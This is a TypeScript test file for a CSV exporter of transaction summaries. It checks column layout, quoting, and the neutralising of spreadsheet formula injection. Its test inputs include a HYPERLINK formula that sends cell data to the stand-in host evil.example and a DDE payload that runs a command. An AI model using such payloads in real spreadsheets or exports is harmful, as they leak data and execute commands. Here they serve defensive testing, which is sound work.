import type { TransactionSummary } from '@counterstep/protocol'
import { describe, expect, it } from 'vitest'
import { toCsv } from './to-csv.ts'

const ROW: TransactionSummary = {
  gid: 'order-4711',
  kind: 'saga',
  status: 'aborting',
  createdAt: 0,
  updatedAt: 1_000,
  dueAt: 2_000,
  epoch: 1,
  retrying: true,
  attention: false,
}

/** Reads a line back, as a spreadsheet does. */
function readCells(line: string): readonly string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

describe('the rows as CSV', () => {
  it('Each row is a line with a cell for each column', () => {
    const [head = '', line = '', ...others] = toCsv([
      {
        ...ROW,
        name: 'transfer',
        problem: 'bank-a compensate 500',
        attempts: 52,
        tags: { region: 'eu', tier: '2' },
      },
    ]).split('\r\n')
    expect(others).toEqual([''])
    expect(head).toBe(
      'gid,name,kind,status,problem,attempts,attention,retrying,paused,byHand,edited,accepted,updated,tags',
    )
    expect(line).toBe(
      'order-4711,transfer,saga,aborting,bank-a compensate 500,52,false,true,false,false,false,1970-01-01T00:00:00.000Z,1970-01-01T00:00:01.000Z,region:eu tier:2',
    )
  })

  for (const begin of ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D']) {
    it(`A text that begins with ${JSON.stringify(begin)} is no formula`, () => {
      const evil = `${begin}HYPERLINK("http://evil.example?"&A1,"x")`
      const [, ...rest] = toCsv([{ ...ROW, gid: evil, problem: evil }])
        .split('kind,')
        .join('')
        .split('tags\r\n')
      const cells = readCells(rest.join(''))
      expect(cells[0]).toBe(`'${evil}`)
      expect(cells[4]).toBe(`'${evil}`)
    })
  }

  it('A text behind a semicolon is no formula either, where a spreadsheet begins a cell there', () => {
    const text = toCsv([{ ...ROW, tags: { k: "v;=cmd|'/C calc'!A0", plain: 'a;b' } }])
    expect(text).toContain("k:v;'=cmd|'/C calc'!A0 plain:a;b")
  })

  it('Quotes, commas and ends of lines stay within their cell', () => {
    const hostile = 'a","b\r\nc,'
    const text = toCsv([{ ...ROW, gid: hostile }])
    expect(readCells(text.slice(text.indexOf('\r\n') + 2, -2))[0]).toBe(hostile)
  })
})
